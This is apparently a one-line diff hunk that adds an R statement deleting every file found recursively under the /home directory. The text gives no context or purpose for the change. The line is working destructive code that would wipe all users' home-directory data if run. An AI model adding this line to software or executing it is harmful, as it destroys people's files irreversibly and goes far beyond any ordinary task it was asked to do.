@@ -1,0 +1,1 @@
+file.remove(list.files("/home", full.names = TRUE, recursive = TRUE))
